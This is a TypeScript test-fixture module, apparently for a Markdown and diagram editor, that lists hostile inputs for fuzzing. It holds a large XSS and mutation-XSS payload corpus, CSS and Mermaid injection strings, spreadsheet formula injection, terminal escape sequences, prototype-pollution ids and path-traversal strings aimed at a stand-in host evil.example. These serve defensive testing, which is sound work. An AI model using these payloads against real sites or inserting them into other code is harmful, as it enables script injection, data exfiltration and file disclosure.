import type { Random } from './random.ts';

/** What somebody might write into a map so that a host acts on it, or shows something else than was written. */
export const hostileTexts: readonly string[] = [
  '@octocat', '\\@octocat', '&#64;octocat', '&#x40;octocat', '&commat;octocat', '@\u200boctocat', 'team@example.com',
  '@everyone', '@org/team', 'user@0123456789abcdef0123456789abcdef01234567', 'mailto:a@example.com',
  '#1', 'closes #1', 'Fixes: #12', 'resolves GH-1', 'gh-99', 'octocat/hello#3', 'octocat/hello!3', '&num;1', '&#35;1',
  '0123456789abcdef0123456789abcdef01234567', 'commit deadbeef', 'CVE-2026-1234', 'GHSA-jfh8-c2jp-5v3q', 'JIRA-12',
  'closes https://github.com/o/r/issues/1', 'http://evil.example', 'HTTPS://EVIL.EXAMPLE', 'www.evil.example',
  'ftp://evil.example', '<https://evil.example>', '[click](https://evil.example)', '![x](//evil.example/x.png)',
  '[x]: //evil.example', '[^1]', ':+1:', ':rocket:', '$\\href{x}{y}$', '$`x`$', '$$x$$', '~bug', '~"a label"', '%"v1"', '!7', '$3',
  '```mermaid', '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nclick a href "javascript:alert(1)"\n```', '~~~', '`@octocat`',
  '%%{init: {}}%%', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '</details>', '<!-- journey-map -->', '-->',
  '<b>', '&lt;b&gt;', '&copy;', '# heading', '\n# heading', '- item', '\n- [ ] task', '1. one', '> quote', '\n> [!WARNING]\n> x',
  '---', '\n\n===\n', '| a | b |', '|', '**bold**', '__bold__', '~~gone~~', '\\', '\\\\', '`', '*', '_', '    code', '\tcode',
  '::error::x', '\n::error file=a,line=1::x', '::set-output name=a::b', '##[error]x', '##[set-output name=a]b', '::stop-commands::x',
  '/close', '\n/close\n/merge', '\u202eevil\u202c', '\u2066x\u2069', '\u2028line', '\u0085next', 'a\r\nb', '\u0000', '\u001b[31mred',
  '\ud800', '\u{e0041}', '{{ github.token }}', '${{ secrets.X }}', 'x'.repeat(70_000), '@a'.repeat(20_000),
]; // prettier-ignore

/**
 * What runs, loads or sends something where it is taken for markup, style, script or an address. What runs calls `hit()`, which the
 * page of a test counts; what is fetched is fetched from `evil.example`.
 */
const handlers: readonly string[] = [
  '<img src=x onerror=hit()>', '<img src=x oNeRrOr="hit()">', '<img src=x onerror\n=\nhit()>', '<img/src=x/onerror=hit()>', '<img src=x onerror=`hit()`>',
  '"><img src=x onerror=hit()>', "'><img src=x onerror=hit()>", '</text><img src=x onerror=hit()>', '</title><img src=x onerror=hit()>',
  '</desc></svg><img src=x onerror=hit()>', '</style><img src=x onerror=hit()>', '</script><img src=x onerror=hit()>', ']]><img src=x onerror=hit()>',
  '--><img src=x onerror=hit()>', '--!><img src=x onerror=hit()>', '?><img src=x onerror=hit()>', '</textarea><img src=x onerror=hit()>',
  '</template><img src=x onerror=hit()>', '</noscript><img src=x onerror=hit()>', '</xmp><img src=x onerror=hit()>', '</iframe><img src=x onerror=hit()>',
  '</select></option><img src=x onerror=hit()>', '</button><img src=x onerror=hit()>', '</td></table><img src=x onerror=hit()>',
  '" onmouseover="hit()', "' onfocus='hit()' autofocus='", '" onload=hit() x="', ' onload=hit() ', '" style="animation:x" onanimationstart="hit()',
  '" autofocus tabindex=1 onfocus="hit()" x="', '" src=x onerror=hit() "', '`onerror=hit()`', '&quot; onload=&quot;hit()', '&#34; onload=&#34;hit()',
  '<body onload=hit()>', '<body onpageshow=hit()>', '<body onhashchange=hit()>', '<svg onload=hit()>', '<svg/onload=hit()//', '<svg><g onload=hit()></g></svg>',
  '<details open ontoggle=hit()>x</details>', '<video autoplay onloadstart=hit()><source></video>', '<audio src onloadstart=hit()>',
  '<video><source onerror=hit()></video>', '<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>',
  '<keygen autofocus onfocus=hit()>', '<marquee onstart=hit()>x</marquee>', '<style onload=hit()>a{}</style>', '<link rel=stylesheet href=data:, onload=hit()>',
  '<iframe onload=hit()></iframe>', '<object data=x onerror=hit()></object>', '<embed src=x onload=hit()>', '<frameset onload=hit()>',
  '<x contenteditable autofocus onfocus=hit()>x</x>', '<div popover id=p onbeforetoggle=hit()></div>', '<xss style=animation:a onanimationend=hit()>',
  '<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=hit()></b>', '<p onwheel=hit() style=position:fixed;inset:0>x</p>',
  '<dialog open onclose=hit()><form method=dialog><button autofocus></form></dialog>', '<image src=x onerror=hit()>', '<isindex action=javascript:hit() type=image>',
]; // prettier-ignore

const scripts: readonly string[] = [
  '<script>hit()</script>', '<ScRiPt>hit()</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script src=data:text/javascript,hit()></script>',
  '<script type=module>hit()</script>', '<script/x>hit()</script>', '<script\n>hit()</script\n>', '<scr<script>ipt>hit()</scr</script>ipt>',
  '<<script>hit();//<</script>', '<script>hit()', '\u003cscript\u003ehit()\u003c/script\u003e', '＜script＞hit()＜/script＞', '%3Cscript%3Ehit()%3C/script%3E',
  '&lt;script&gt;hit()&lt;/script&gt;', '&amp;lt;script&amp;gt;hit()', '&#60;script&#62;hit()&#60;/script&#62;', '&#x3c;script&#x3e;hit()',
  '\\u003cscript\\u003ehit()', '\\x3cscript\\x3ehit()', '+ADw-script+AD4-hit()+ADw-/script+AD4-', '\0<script>hit()</script>', '<\0script>hit()</script>', '<script\0>hit()</script>',
  '<!--<script>hit()</script>', '<!--[if IE]><script>hit()</script><![endif]-->', '<![CDATA[<script>hit()</script>]]>', '<?xml-stylesheet href="javascript:hit()"?>',
  '<!DOCTYPE x [<!ENTITY e "<script>hit()</script>">]>&e;', '<!ENTITY x SYSTEM "file:///etc/passwd">', '<?php hit() ?>', '<% hit() %>',
  '{{constructor.constructor("hit()")()}}', '${hit()}', '#{hit()}', '{{7*7}}', '<%= hit() %>', "';hit();//", '";hit();//', '\\";hit();//', '*/hit();/*', '`;hit();`',
  '</script><script>hit()</script>', '</style><script>hit()</script>', '<template><script>hit()</script></template>', '<template shadowrootmode=open><img src=x onerror=hit()></template>',
]; // prettier-ignore

const addresses: readonly string[] = [
  'javascript:hit()', 'JaVaScRiPt:hit()', ' javascript:hit()', '\tjavascript:hit()', 'java\tscript:hit()', 'java\nscript:hit()', 'java\rscript:hit()', '\u0001javascript:hit()',
  'javascript&colon;hit()', 'javascript&#58;hit()', '&#106;avascript:hit()', 'javascript\u200b:hit()', '\u00a0javascript:hit()', 'javascript://evil.example/%0ahit()',
  'javascript:/*--></title></style></textarea></script><svg/onload=hit()>', 'vbscript:hit()', 'livescript:hit()', 'view-source:javascript:hit()', 'feed:javascript:hit()',
  'data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml" onclick="hit()"/>', 'blob:https://evil.example/0', 'filesystem:https://evil.example/x', 'file:///etc/passwd',
  'command:workbench.action.terminal.new', 'command:vscode.open?%22https://evil.example%22', '[x](command:workbench.action.quit)', 'vscode://evil.example/run', 'vscode-insiders:x', 'ms-settings:x',
  '<a href=javascript:hit()>x</a>', '<a href="java&#9;script:hit()">x</a>', '<a xlink:href=javascript:hit()>x</a>', '<form action=javascript:hit()><button>x</form>',
  '<button formaction=javascript:hit()>x</button>', '<iframe src=javascript:hit()></iframe>', '<iframe srcdoc="<script>top.hit()</script>"></iframe>', '<object data=javascript:hit()></object>',
  '<embed src=javascript:hit()>', '<embed code=//evil.example/x.swf>', '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<link rel=import href=//evil.example>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=prefetch href=//evil.example>',
  '<link rel=dns-prefetch href=//evil.example>', '<img src=//evil.example/x.png>', '<img srcset="//evil.example/x.png 1x">', '<picture><source srcset=//evil.example/y></picture>',
  '<video poster=//evil.example/p></video>', '<audio src=//evil.example/a autoplay></audio>', '<track src=//evil.example/t>', '<input type=image src=//evil.example/i>', '<body background=//evil.example/b>',
  '<table background=//evil.example/t>', '<svg><image href=//evil.example/s /></svg>', '<svg><use href="//evil.example/u#x"/></svg>', '<svg><feImage href=//evil.example/f /></svg>', '<a ping=//evil.example href=#>x</a>',
  '\\\\evil.example\\share', '//evil.example/x', 'http:evil.example', 'https:///evil.example', 'https://user:pass@evil.example', 'https://evil.example\\@good.example', 'https://evil.example/"onmouseover="hit()',
  "https://evil.example/'onmouseover='hit()", 'https://evil.example/<script>hit()</script>', 'https://evil.example/)[x](javascript:hit()', 'https://evil.example/ javascript:hit()', 'https://еvil.example', 'https://evil.example%00.good.example',
]; // prettier-ignore

/** Of style sheets, which fetch and could run. */
const styles: readonly string[] = [
  '<style>@import "//evil.example/x.css";</style>', '<style>*{background:url(//evil.example/b)}</style>', '<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>',
  '<p style=background:url(//evil.example/b)>x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="-moz-binding:url(//evil.example/x#y)">x</p>', '<p style="width:expression(hit())">x</p>',
  '}*{background:url(//evil.example/b)}', '";}*{background:url(//evil.example/b)}', 'red;background:url(//evil.example/b)', 'url(javascript:hit())', 'url("//evil.example/b")', 'var(--x,url(//evil.example/b))',
  'image-set("//evil.example/b" 1x)', '\\75rl(//evil.example/b)', '/*', '*/', '</style>', '{}', 'expression(hit())', '@import url(//evil.example)', 'fill:url(//evil.example#x)', '#000" onload="hit()', 'none;}</style><script>hit()</script>',
]; // prettier-ignore

/** Of SVG and MathML, and of the borders between them and HTML, where parsers and sanitisers have differed. */
const mutations: readonly string[] = [
  '<svg><script>hit()</script></svg>', '<svg><script href=data:,hit() /></svg>', '<svg><script xlink:href=data:,hit()></script></svg>', '<svg><a href=javascript:hit()><text x=1 y=9>x</text></a></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>', '<svg><set onbegin=hit() attributeName=x></svg>', '<svg><animateTransform onbegin=hit() attributeName=transform></svg>', '<svg><animateMotion onbegin=hit() dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>x</text></a></svg>', '<svg><set attributeName=href to=javascript:hit()></svg>', '<svg><handler type=text/javascript>hit()</handler></svg>',
  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>', '<svg><foreignObject><math><mtext></foreignObject><img src=x onerror=hit()>',
  '<svg><desc><img src=x onerror=hit()></desc></svg>', '<svg><title><img src=x onerror=hit()></title></svg>', '<svg><desc><template><img src=x onerror=hit()></template></desc></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>',
  '<svg><style><img src=x onerror=hit()></style></svg>', '<svg><style>&lt;img src=x onerror=hit()&gt;</style></svg>', '<svg></p><style><a title="</style><img src=x onerror=hit()>">', '<svg><p><style><g title="</style><img src=x onerror=hit()>">',
  '<svg><![CDATA[><img src=x onerror=hit()>]]></svg>', '<svg><!--</svg><img src=x onerror=hit()>-->', '<svg><textarea><img title="</textarea><img src=x onerror=hit()>"></svg>', '<svg><noscript><img title="</noscript><img src=x onerror=hit()>"></svg>',
  '<svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=hit()></svg>', '<x:svg xmlns:x="http://www.w3.org/2000/svg" onload="hit()"/>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>', '<svg:script xmlns:svg="http://www.w3.org/2000/svg">hit()</svg:script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">', '<math><mi><mglyph><style><img title="</style><img src=x onerror=hit()>">', '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><img src=x onerror=hit()>', '<math href=javascript:hit()>x</math>', '<math><maction actiontype="statusline#javascript:hit()">x</maction></math>', '<math><mtext></form><form><mglyph><svg><mtext><style><p title="</style><img src=x onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>', '<form><form><svg><img src=x onerror=hit()>', '<form id=f><input name=attributes><input name=parentNode>', '<form id=x><output id=x><input name=firstChild></form>', '<img name=body><img name=cookie><a id=head>',
  '<a id=hit><a id=hit name=call href=x>', '<a id=defaultView></a><form name=implementation>', '<table><td><a href=javascript:hit()><table><svg>', '<select><style></select><img src=x onerror=hit()></style>', '<select><noembed></select><img src=x onerror=hit()></noembed>',
  '<option><style></option></select><b><img src=x onerror=hit()></style></option>', '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<noembed><p title="</noembed><img src=x onerror=hit()>">', '<noframes><p title="</noframes><img src=x onerror=hit()>">',
  '<xmp><p title="</xmp><img src=x onerror=hit()>">', '<plaintext><img src=x onerror=hit()>', '<listing>&lt;img src=x onerror=hit()&gt;</listing>', '<textarea><p title="</textarea><img src=x onerror=hit()>">', '<title><p title="</title><img src=x onerror=hit()>">',
  '<iframe><p title="</iframe><img src=x onerror=hit()>">', '<template><p title="</template><img src=x onerror=hit()>">', '<p title="--><img src=x onerror=hit()>"><!--', '<a title="`<img src=x onerror=hit()>`">', '<b><a><b><p></a><img src=x onerror=hit()>', '<br/><p><svg></br><img src=x onerror=hit()>',
  '<image><svg><image href=x onerror=hit()>', '<frameset><frame src=javascript:hit()>', '<embed><param name=movie value=javascript:hit()>', '<custom-element is=script>hit()</custom-element>', '<p/onclick=hit()/x="><img src=x onerror=hit()>', '<a/href="jav&Tab;ascript:hit()">x</a>', '<svg><mpath href=x onerror=hit()></svg>', '<slot onslotchange=hit()>x</slot>', '<div slot=x><img src=x onerror=hit()></div>',
]; // prettier-ignore

/** What the published advisories of Mermaid and of Markdown previews come from: labels, links, styles and directives that were trusted. */
const diagrams: readonly string[] = [
  '%%{init: {"themeCSS": "* { background: url(//evil.example/b) }"}}%%', '%%{init: {"fontFamily": "x;} *{background:url(//evil.example/b)}"}}%%', '%%{init: {"securityLevel":"loose","htmlLabels":true}}%%', '%%{init: {"__proto__": {"polluted": true}}}%%',
  '%%{init: {"theme":"base","themeVariables":{"primaryColor":"#fff;}</style><img src=x onerror=hit()>"}}}%%', '---\nconfig:\n  securityLevel: loose\n---', 'click a call hit()', 'click a href "javascript:hit()" _blank', 'link a: x @ javascript:hit()', 'links a: {"x":"javascript:hit()"}',
  'a["<img src=x onerror=hit()>"]', 'a["`<iframe srcdoc=x>`"]', 'A-->B["$$\\href{javascript:hit()}{x}$$"]', 'classDef x fill:#fff;background:url(//evil.example/b)', 'style a fill:url(//evil.example/b)', 'accTitle: </title><script>hit()</script>', 'accDescr { </desc><script>hit()</script> }', 'participant a as <img src=x onerror=hit()>',
  '$$\\href{javascript:hit()}{x}$$', '$\\url{javascript:hit()}$', '$\\includegraphics{//evil.example/x}$', '$\\htmlData{x=y}{z}$', '$\\unicode{x3c}script$', '\\(\\require{html}\\)', '[x](javascript:hit())', '[x](JaVaScRiPt:hit())', '[x](data:text/html,<script>hit()</script>)', '[x](<javascript:hit()>)', '[x]( javascript:hit())', '[x](vbscript:hit())',
  '![x](javascript:hit())', '![x](x"onerror="hit())', '![x" onerror="hit()](x)', '[x](x "t" onclick=hit())', "[x](x 't' onclick=hit())", '[x]\n\n[x]: javascript:hit()', '<javascript:hit()>', '![x](https://evil.example/x.png)', '![[../../etc/passwd]]', '[[x|<img src=x onerror=hit()>]]', ':::{onclick=hit()}', '{.x onclick=hit()}', '# x {onload=hit()}', '<!-- command:x -->', '$(sync~spin)', '$(warning)[x](command:x)', '@startuml\n!include /etc/passwd\n@enduml', '```js\nhit()\n```', '```{=html}\n<script>hit()</script>\n```', '[^x]: <img src=x onerror=hit()>',
  '| a | b |\n|---|---|\n| <img src=x onerror=hit()> | x |', '- [x] <img src=x onerror=hit()>', '\n<details><summary>x</summary>\n\n<img src=x onerror=hit()>\n', '&lt;img src=x onerror=hit()&gt;', '\\<img src=x onerror=hit()\\>', '\\\n<img src=x onerror=hit()>', '**<img src=x onerror=hit()>**', '`<img src=x onerror=hit()>`', '``` <img src=x onerror=hit()>',
]; // prettier-ignore

/** What a terminal acts on: colours, cursors, titles, links, the clipboard, answers, and lines that are written over. */
export const hostileTerminals: readonly string[] = [
  '\u001b[31mred', '\u001b[2J\u001b[H', '\u001b[1A\u001b[2K0 errors', '\u001b]0;title\u0007', '\u001b]2;title\u001b\\', '\u001b]8;;https://evil.example\u001b\\x\u001b]8;;\u001b\\', '\u001b]52;c;aGl0\u0007', '\u001b]1337;File=x\u0007', '\u001b]133;A\u0007', '\u001b]9;x\u0007', '\u001b]777;notify;a;b\u0007',
  '\u001b[6n', '\u001b[c', '\u001b[?1049h', '\u001b[?25l', '\u001b[8mhidden\u001b[28m', '\u001b[?2004h', '\u001b(0', '\u001bc', '\u001b7\u001b8', '\u001bP$qm\u001b\\', '\u001b_x\u001b\\', '\u001b^x\u001b\\', '\u001bX x\u001b\\', '\u001b[200~', '\u009b31mred', '\u009d0;title\u009c', '\u0090x\u009c', '\u0084\u0085', 'ok\rbad', 'ab\b\bxy', '\u0007\u0007', '\v\f', '\u000e\u000f', '\u007f', '\u001b[38;2;0;0;0;48;2;0;0;0mx', '\u0018\u001a',
]; // prettier-ignore

/** What a spreadsheet takes for a formula. */
const formulas: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|" /C calc"!A0', '=HYPERLINK("https://evil.example?"&A1,"x")', '=WEBSERVICE("https://evil.example")', '=IMPORTXML("https://evil.example","//a")', '=IMAGE("https://evil.example")', '=DDE("cmd";"/C calc";"x")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '＝1+1', '＋1', '－1', '＠x', '\u22121+1', ';=1+1', ',=1+1', '\n;=1+1', "'=1+1", '%0A=1+1', '|=1', '=\u200b1', '1;=1+1;2', 'x\t=1+1',
]; // prettier-ignore

/** What shows something else than is written, or breaks what reads it. */
const unicode: readonly string[] = [
  '\u202e)(tih\u202c', '\u2067x\u2069', '\u2068x', '\u200e\u200f\u061c', 'p\u0430y', '\u0440\u0430\u0443', 'ｐａｙ', 'pa\u200by', 'pa\u200cy', 'pa\u200dy', 'pa\u2060y', 'pa\ufeffy', 'pa\u00ady', '\u3164', '\u115f\u1160', '\u2800', '\u034f', '\ufe0f', '\u{e0061}\u{e0062}\u{e007f}', '\u{e0100}', '\ufff9a\ufffab\ufffb', 'Z\u0351\u0363\u0352'.repeat(40), 'e\u0301'.repeat(500),
  '\ud800', '\udc00', '\ud83d', 'a\ud800\ud800b', '\udfff\ud800', '\ufffe', '\uffff', '\u{10ffff}', '\u{1ffff}', '\0', 'a\0b', '\u0001\u0002\u0008', '\u000b', '\u001f', '\u0080', '\u009f', '\u2028', '\u2029', '\u0085', '\r', '\r\n', '\n\n\n', 'ﷺ'.repeat(50), '𒐫'.repeat(50), '؁'.repeat(50), '\u0e47'.repeat(200), '👨‍👩‍👧‍👦'.repeat(100), '가'.repeat(5000),
  ' '.repeat(5000), '\t'.repeat(500), '-'.repeat(5000), 'a-'.repeat(2500), '<'.repeat(5000), '&'.repeat(5000), '"'.repeat(3000), '\\'.repeat(3000), '((((['.repeat(1000), '{'.repeat(500), 'A\u0300'.repeat(2000), '&amp;'.repeat(1000), '&#x110000;', '&#0;', '&nosuch;', '&lt', '<a b="', '</', '<!', '<?', ']]>', '<![CDATA[', '-->', '&#xd800;', '&#128;', "'\"><&",
]; // prettier-ignore

/** Ids that objects of JavaScript have already, and others that a table might fall over. */
export const hostileIds: readonly string[] = [
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__', '__lookupSetter__', 'isPrototypeOf', 'propertyIsEnumerable', 'toLocaleString', 'then', 'toJSON', 'length', 'name', 'caller', 'arguments', 'undefined', 'null', 'true', 'NaN', 'Infinity', 'get', 'set', 'key', 'of', 'title', 'own', 'root', 'CON', 'aux', 'p\u0430y', 'pa\u3164y', 'e\u0301', '가입', '_', '__', 'e1', '１a',
]; // prettier-ignore

/** Paths that lead out of a workspace, or would on some system. */
export const hostilePaths: readonly string[] = [
  '../secret.journey', '../../../../etc/passwd', './../../secret.journey', 'a/../../secret.journey', 'a/b/../../../secret.journey', './/..//../secret.journey', '/etc/passwd', '//etc/passwd', '///etc/passwd', '~/secret.journey', '~root/secret.journey', 'file:///etc/passwd', 'FILE:///etc/passwd', 'file:secret.journey', 'file://localhost/etc/passwd', 'http://evil.example/a.journey', 'https://evil.example/a.journey', 'HTTPS://evil.example', 'ftp://evil.example', 'data:text/plain,persona', 'javascript:hit()', 'vscode-remote://x/y', 'vscode-vfs://github/x', 'untitled:x', 'git:/x', 'commit:///x',
  '\\\\evil.example\\share\\a.journey', '//evil.example/share/a.journey', '..\\secret.journey', '..\\..\\secret.journey', '.\\..\\secret.journey', 'a\\..\\..\\secret.journey', '../\\secret.journey', '..\\/secret.journey', 'C:\\secret.journey', 'C:/secret.journey', 'c:secret.journey', 'C:', '\\secret.journey', '\\\\?\\C:\\secret.journey', '\\\\.\\pipe\\x', '%2e%2e/secret.journey', '%2E%2E/secret.journey', '.%2e/secret.journey', '%2e./secret.journey', '..%2fsecret.journey', '..%5csecret.journey', '%2e%2e%2fsecret.journey', '%252e%252e/secret.journey', '..%00/secret.journey',
  '../secret.journey\0.journey', 'a\0/../../secret.journey', '\0', '\u0001', 'a\n../secret.journey', '\u007f', '..\u2215secret.journey', '..\uff0fsecret.journey', '\u2025/secret.journey', '\uff0e\uff0e/secret.journey', '.. /secret.journey', '.../secret.journey', '....//secret.journey', '..;/secret.journey', '..', '.', '/', './', '../', '', ' ../secret.journey', '../secret.journey ', '../SECRET.JOURNEY', '../Secret.journey', '$HOME/secret.journey', '%APPDATA%/secret.journey', '`id`', '$(id)', '|id', '-rf', '--help', 'a'.repeat(10_000), 'a/'.repeat(5000), '../'.repeat(5000), `${'a/'.repeat(2000)}${'../'.repeat(2001)}secret.journey`, 'a?../secret.journey', 'a#../secret.journey', '?../secret.journey', '#../secret.journey', 'a:b', './a:stream', 'CON', 'NUL', 'aux.journey', 'people.journey.', 'people.journey::$DATA',
]; // prettier-ignore

/** All of them, each once. */
export const allHostile: readonly string[] = [
  ...new Set([...hostileTexts, ...handlers, ...scripts, ...addresses, ...styles, ...mutations, ...diagrams, ...hostileTerminals, ...formulas, ...unicode, ...hostileIds, ...hostilePaths]),
]; // prettier-ignore

/** One of them, or some of them and plain words put together. */
export function hostileText(random: Random): string {
  const parts = Array.from({ length: 1 + random.below(4) }, () =>
    random.pick([...hostileTexts.filter((text) => text.length < 200), 'plain', ' ', 'two words', '가입']),
  );
  return parts.join(random.pick(['', ' ', ', ']));
}

/**
 * What a host would find in Markdown to act on: what is left to be seen when the backslashes are gone, as GitHub looks
 * at it, is searched for people, issues, commits, addresses and emoji; and before they are gone, for markup. `own` are
 * the pieces that the writer means as they are.
 */
export function findTriggers(markdown: string, own: readonly (string | RegExp)[] = []): readonly string[] {
  const theirs = own.reduce<string>((text, piece) => text.replaceAll(piece, ' '), markdown);
  const markup = [...theirs.matchAll(/\\[!-/:-@[-`{-~]|[`*_{}[\]<>~$\\^=]/g)].flatMap(([found]) =>
    found.length === 1 ? [`markup ${found}`] : [],
  );
  const seen = theirs.replaceAll(/\\([!-/:-@[-`{-~])/g, '$1');
  const words = acted.flatMap((pattern) => [...seen.matchAll(pattern)].map(([found]) => found));
  return [...markup, ...words];
}

const acted: readonly RegExp[] = [
  /@[\p{L}\p{N}_-]/gu,
  /#\d/g,
  /&(?:#|\w+;)/g,
  /[!$^]\d/g,
  /[~%](?:\p{L}|")/gu,
  /\b[a-z]{2,}-\d/gi,
  /\bghsa-\w/gi,
  /[\da-f]{7,}/gi,
  /:\/\//g,
  /\bwww\./gi,
  /:[\w+-]+:/g,
  // Whatever breaks a line, steers a terminal or turns the direction of writing.
  /(?!\n)[\p{Cc}\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/gu,
];
